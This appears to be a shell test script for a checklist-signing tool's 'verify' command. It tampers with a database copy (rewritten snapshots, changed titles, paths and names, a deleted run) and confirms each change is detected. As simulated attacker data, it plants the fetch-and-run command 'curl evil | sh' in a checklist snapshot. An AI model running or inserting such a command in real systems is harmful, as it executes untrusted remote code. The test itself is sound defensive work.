#!/bin/sh
# verify covers every row a run depends on, against someone who can write the
# database file (guard triggers dropped first, as they would): a checklist
# snapshot rewritten (`echo all good` becomes `curl evil | sh`, which later
# checks would run), a run's title or path changed, an engineer's full name
# changed, a whole run removed (its row and every event, the derived run
# table made to agree). Each fails verify, naming what was changed.
. "$(dirname "$0")/lib.sh"

BASE=$(db_new base)
export COUNTERSIGN_TEST_PIN_COST=min COUNTERSIGN_DB="$BASE"
TAMPER=tamper
mkdir fx
cat >fx/deploy.json <<'EOF'
{
  "countersign": 1,
  "id": "cli-tamper",
  "title": "Tamper fixture",
  "sections": [
    {
      "id": "prep",
      "title": "Preparation",
      "phase": "Pre-Deployment",
      "items": [
        {"id": "hello", "title": "Says all is well", "kind": "command", "run": "echo all good"},
        {"id": "review", "title": "Reviewed", "kind": "manual"}
      ]
    },
    {
      "id": "deploy",
      "title": "Deploy",
      "phase": "Deployment",
      "items": [
        {"id": "step", "title": "Roll out", "kind": "command", "run": "echo rolled out"}
      ]
    }
  ]
}
EOF

by() {
	who=$1
	shift
	printf 'pin-%s-1\n' "$who" >"$T/pin"
	run "$CS" "$@" --engineer "$who" --pin-stdin <"$T/pin"
}
fresh() {
	DB=$(db_clone "$BASE" "$1")
	$TAMPER "$DB" guards-off
}
# caught DESC RUN WORD...: verify, and verify RUN unless RUN is "", fail
# naming each WORD.
caught() {
	desc=$1
	which=$2
	shift 2
	for what in all $which; do
		if [ "$what" = all ]; then
			run "$CS" --db "$DB" verify
			what=
		else
			run "$CS" --db "$DB" verify "$what"
		fi
		expect_rc 1 "verify ${what:+RUN }after $desc"
		for word in "$@"; do
			expect_in err "$word" "verify ${what:+RUN }after $desc names '$word'"
		done
	done
}

for e in alice bob; do
	printf 'pin-%s-1\n' "$e" | "$CS" engineer add "$e" --full-name "$e Example" --pin-stdin >/dev/null
done
by alice start fx/deploy.json --title "Release 7"
R=$(cat "$T/out")
by alice check "$R" prep/hello
expect_in out "all good" "the check ran the snapshot's command"
by alice attest "$R" prep/review
by bob sign "$R" prep
expect_rc 0 "the run to tamper with is recorded"
# A second, later run: the one removed below.
by alice start fx/deploy.json --title "Release 8"
R2=$(cat "$T/out")
by alice check "$R2" prep/hello
by bob note "$R2" "a run someone wants forgotten"
expect_rc 0 "the second run is recorded"
run "$CS" verify
expect_rc 0 "the untouched record verifies"
HEAD=$(db_sql "$BASE" "select hash from events where chain = '$R' order by seq desc limit 1")
SHA=$(db_sql "$BASE" "select checklist_sha from runs where id = '$R'")

# --- the checklist snapshot rewritten ---------------------------------------------
fresh snapshot
db_sql "$DB" "update checklists set text = replace(text, 'echo all good', 'curl evil | sh')"
[ "$(db_sql "$DB" "select count(*) from checklists where text like '%curl evil | sh%'")" = 1 ] &&
	ok || fail "the snapshot now holds the attacker's command"
caught "the checklist snapshot was rewritten" "$R" "checklist" "$(printf '%.12s' "$SHA")"
run "$CS" --db "$DB" verify "$R" --anchor "$HEAD"
expect_rc 1 "verify RUN --anchor HEAD after the snapshot was rewritten"
# The same text under its own new SHA-256, the run's row pointed at it.
fresh snapshot-moved
db_sql "$DB" "insert into checklists (sha256, text) select
	'$(printf '%064d' 0)', replace(text, 'echo all good', 'curl evil | sh') from checklists where sha256 = '$SHA';
	update runs set checklist_sha = '$(printf '%064d' 0)' where id = '$R'"
caught "the run's row was pointed at another snapshot" "$R" "$R"

# --- a run's title, its path ---------------------------------------------------------
fresh title
db_sql "$DB" "update runs set title = 'Routine restart' where id = '$R'"
caught "the run's title was changed" "$R" "$R" "title" "Routine restart"
fresh path
db_sql "$DB" "update runs set path = '/srv/checklists/other.json' where id = '$R'"
caught "the run's path was changed" "$R" "$R" "path"

# --- an engineer's full name -------------------------------------------------------
fresh fullname
db_sql "$DB" "update engineers set full_name = 'Mallory Example' where name = 'bob'"
caught "bob's full name was changed" "" "engineers" "bob"

# --- a whole run removed, its row and events (derived table agreeing) ---------------
fresh deleted
$TAMPER "$DB" delete-run "$R2"
[ "$(db_sql "$DB" "select count(*) from events where chain = '$R2'")$(db_sql "$DB" \
	"select count(*) from runs where id = '$R2'")" = 00 ] && ok || fail "run $R2 is gone"
caught "run $R2 was removed with its events" "" "$R2" "removed"

finish
